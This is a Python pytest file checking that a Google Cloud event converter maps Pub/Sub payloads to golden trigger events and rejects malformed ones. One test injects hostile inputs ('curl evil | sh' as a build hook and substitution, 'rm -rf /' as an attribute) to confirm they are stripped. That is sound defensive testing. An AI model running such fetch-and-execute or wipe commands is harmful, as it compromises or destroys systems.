"""Real Google Cloud event payloads (tests/events/gcp: Pub/Sub messagePublished CloudEvents as
functions-framework delivers them) convert to the golden trigger events beside them, and
anything else is refused with a clear reason."""

from __future__ import annotations

import base64
import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from quiesce.triggers.convert import UnsupportedEvent
from quiesce_gcp.triggers import convert

EVENTS = Path(__file__).resolve().parents[1] / "events" / "gcp"
FIXTURES = sorted(p.name for p in EVENTS.glob("*.json"))


def load(name: str) -> Any:
    return json.loads((EVENTS / name).read_text())


def body(event: dict[str, Any]) -> Any:
    return json.loads(base64.b64decode(event["data"]["message"]["data"]))


def set_body(event: dict[str, Any], value: Any) -> None:
    raw = value if isinstance(value, bytes) else json.dumps(value).encode()
    event["data"]["message"]["data"] = base64.b64encode(raw).decode()


@pytest.mark.parametrize("name", FIXTURES)
def test_each_real_event_converts_to_its_golden_trigger_event(name: str) -> None:
    converted = [e.model_dump(mode="json") for e in convert(load(name))]
    assert converted == load(f"expected/{name}")


def test_every_supported_shape_has_a_fixture() -> None:
    assert len(FIXTURES) == 6
    assert sorted(p.name for p in (EVENTS / "expected").glob("*.json")) == FIXTURES


def test_a_schedule_names_its_trigger_and_the_message_id_is_the_event_id() -> None:
    (event,) = convert(load("scheduler.json"))
    assert (event.kind, event.trigger, event.id) == ("schedule", "nightly", "12960537433651735")


def test_a_schedule_may_name_its_trigger_in_an_attribute() -> None:
    payload = load("scheduler.json")
    del payload["data"]["message"]["data"]
    payload["data"]["message"]["attributes"] = {"trigger": "hourly"}
    (event,) = convert(payload)
    assert event.trigger == "hourly"


def test_deploy_and_alert_attributes_are_the_ones_policies_match_on() -> None:
    (build,) = convert(load("cloud_build.json"))
    assert {k: build.attributes[k] for k in ("provider", "trigger", "application", "state")} == {
        "provider": "cloudbuild",
        "trigger": "orders-deploy",
        "application": "orders-app",
        "state": "WORKING",
    }
    (deploy,) = convert(load("cloud_deploy_operation.json"))
    assert {k: deploy.attributes[k] for k in ("provider", "pipeline", "target", "state")} == {
        "provider": "clouddeploy",
        "pipeline": "orders-pipeline",
        "target": "prod",
        "state": "Start",
    }
    (alert,) = convert(load("monitoring_incident_open.json"))
    assert {k: alert.attributes[k] for k in ("provider", "alarm", "state", "severity")} == {
        "provider": "cloud-monitoring",
        "alarm": "orders-db-disk-full",
        "state": "open",
        "severity": "Critical",
    }


def test_extra_fields_in_a_payload_never_reach_the_trigger_event() -> None:
    payload = load("cloud_build.json")
    build = body(payload)
    build["hooks"] = {"pre": {"run": ["/bin/sh", "-c", "curl evil | sh"]}}
    build["substitutions"]["_HOOK"] = "curl evil | sh"
    set_body(payload, build)
    payload["data"]["message"]["attributes"]["command"] = "rm -rf /"
    (event,) = convert(payload)
    text = json.dumps(event.model_dump(mode="json"))
    assert "evil" not in text
    assert "rm -rf" not in text


def _mutate_body(key: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def mutate(event: dict[str, Any]) -> None:
        data = body(event)
        data[key] = value
        set_body(event, data)

    return mutate


@pytest.mark.parametrize(
    ("name", "mutate", "message"),
    [
        (
            "scheduler.json",
            lambda e: e.update({"type": "google.cloud.storage.object.v1.finalized"}),
            "expected a google.cloud.pubsub.topic.v1.messagePublished CloudEvent",
        ),
        ("scheduler.json", lambda e: e.pop("data"), "carries no Pub/Sub message"),
        (
            "scheduler.json",
            lambda e: [e["data"]["message"].pop(k) for k in ("messageId", "message_id")],
            "has no messageId",
        ),
        (
            "scheduler.json",
            lambda e: e["data"]["message"].update({"data": "not base64!"}),
            "not base64",
        ),
        ("scheduler.json", _mutate_body("trigger", 42), "names no trigger"),
        (
            "scheduler.json",
            lambda e: [e["data"]["message"].update({k: "yesterday"}) for k in ("publishTime",)],
            "not a timestamp",
        ),
        ("monitoring_incident_open.json", _mutate_body("incident", "x"), "neither a schedule"),
        (
            "monitoring_incident_open.json",
            _mutate_body("incident", {"state": "open"}),
            "names no alert policy",
        ),
        (
            "monitoring_incident_open.json",
            _mutate_body("incident", {"policy_name": "p", "started_at": "noon"}),
            "not a timestamp",
        ),
        (
            "cloud_build.json",
            lambda e: set_body(e, b"[1, 2]"),
            "carries no build",
        ),
    ],
)
def test_an_unsupported_or_malformed_event_is_refused_with_the_reason(
    name: str, mutate: Callable[[dict[str, Any]], Any], message: str
) -> None:
    payload = copy.deepcopy(load(name))
    mutate(payload)
    with pytest.raises(UnsupportedEvent, match=message):
        convert(payload)


def test_a_message_of_no_known_shape_is_refused() -> None:
    payload = load("scheduler.json")
    set_body(payload, {"hello": "world"})
    with pytest.raises(UnsupportedEvent, match="neither a schedule"):
        convert(payload)


def test_a_payload_that_is_not_an_object_is_refused() -> None:
    with pytest.raises(UnsupportedEvent, match="not a JSON object"):
        convert(["run", "/bin/sh"])
